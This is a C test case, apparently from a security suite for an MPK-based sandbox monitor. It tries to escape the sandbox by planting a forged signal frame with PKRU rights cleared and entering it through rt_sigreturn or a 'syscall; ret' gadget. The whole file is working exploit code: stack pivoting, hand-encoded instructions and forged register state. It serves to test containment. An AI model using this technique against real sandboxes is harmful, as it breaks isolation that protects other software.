/* attack
class: gate
aim: memory
tries: entering the monitor as the kernel does, with a planted frame
expect: { mpk: contained }
*/
/* Entering the monitor as the kernel does to deliver a signal, with a frame of the attacker's own. It must lie on a signal stack, where
   he cannot write; but rt_sigreturn takes a copy of a frame of his choice, and where the monitor puts that copy, there it lies. The
   frame leads to a return instruction of the monitor, with all rights and a stack of his. */
#include "gates.h"
#include <stddef.h>
#include <ucontext.h>

#define MARK 0x6d61726b6d61726bull
/* As the kernel writes them. */
struct frame {
    uint64_t restorer;
    struct { uint64_t flags, link, stack[3], regs[23], fpstate, reserved[8], sigmask; } context;
    unsigned char info[128];
};
_Static_assert(sizeof(struct frame) == 440, "a signal frame");
enum { R8, R9, R10, R11, R12, R13, R14, R15, RDI, RSI, RBP, RBX, RDX, RAX, RCX, RSP, RIP, RFLAGS, CS, ERR, TRAPNO, OLDMASK, CR2 };

static struct { _Alignas(64) unsigned char bytes[32768]; } image; /* extended state */
static struct { _Alignas(64) unsigned char bytes[16384]; } room;
static unsigned pkru_offset;
static uintptr_t planted_at, returns;
static struct frame *planted;

/* The second half: a frame of ours lies in the monitor's memory. */
static void enter_with_it(void) {
    set_rights(0x55555554);
    if (!code) {
        /* Unguarded: the kernel itself takes the frame. */
        __asm__ volatile("mov %0, %%rsp\n mov $15, %%eax\n syscall" : : "r"((uintptr_t)planted + 8) : "memory");
    }
    static const unsigned char entry[] = {0x31, 0xc0, 0x31, 0xc9, 0x31, 0xd2, 0x0f, 0x01, 0xef, 0x85, 0xc0, 0x74, 0x02, 0x0f, 0x0b, 0xfc};
    struct registers set = {.rsp = planted_at, .rflags = 0x202, .rip = next_code(0, entry, sizeof entry)};
    if (set.rip == 0) _exit(1);
    jump_with(&set);
}

static void find_it(void) {
    char *line = ask("find", MARK);
    uintptr_t at = line ? strtoul(line, NULL, 16) : 0;
    if (at == 0) _exit(0); /* it is nowhere: nothing to enter with */
    planted_at = at - offsetof(struct frame, context.reserved);
    printf("planted at %lx\n", planted_at);
    fflush(stdout);
    *(uint64_t *)hostile_stack() = (uint64_t)&came_out;
    enter_with_it();
}

static void plants(int number, siginfo_t *info, void *context) {
    (void)number;
    ucontext_t *u = context;
    unsigned char *state = (unsigned char *)u->uc_mcontext.fpregs;
    uint32_t bytes = *(uint32_t *)(state + 468);
    memcpy(image.bytes, state, bytes && bytes < sizeof image.bytes ? bytes : 512);
    *(uint64_t *)(image.bytes + 512) |= 1 << 9;
    *(uint32_t *)(image.bytes + pkru_offset) = 0;
    planted = (struct frame *)(room.bytes + 8192);
    memcpy(planted, (unsigned char *)u - 8, sizeof *planted);
    memcpy(planted->info, info, sizeof planted->info);
    planted->context.fpstate = (uint64_t)image.bytes;
    planted->context.reserved[0] = MARK;
    planted->context.regs[RSP] = hostile_stack();
    /* First it must be taken as a frame to go on from; then as one that struck in the monitor. */
    planted->context.regs[RIP] = code ? returns : (uint64_t)&came_out;
    if (!code) enter_with_it();
    __asm__ volatile("mov %0, %%rsp\n mov $15, %%eax\n syscall" : : "r"((uintptr_t)planted + 8) : "memory");
}

/* All of it in a child, since whoever fails here dies. */
static void tries(void) {
    unsigned a, c, d;
    know_the_monitor();
    __cpuid_count(0xd, 9, a, pkru_offset, c, d);
    if (code) {
        /* syscall; ret: the end of the monitor's raw call. In the frame's first life it returns there too, with closed rights. */
        static const unsigned char raw_end[] = {0x0f, 0x05, 0xc3};
        returns = next_code(0, raw_end, sizeof raw_end);
        if (returns == 0) not_here("no return in the monitor was found");
        returns += 2;
        *(uint64_t *)hostile_stack() = (uint64_t)&find_it;
    }
    struct sigaction action = {.sa_sigaction = plants, .sa_flags = SA_SIGINFO};
    sigaction(SIGUSR1, &action, NULL);
    raise(SIGUSR1);
    _exit(1);
}

int main(void) {
    trophy = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    pid_t child = fork();
    if (child == 0) tries();
    int status;
    waitpid(child, &status, 0);
    if (WIFEXITED(status) && WEXITSTATUS(status) == 77) _exit(77);
    verdict(trophy->open);
}
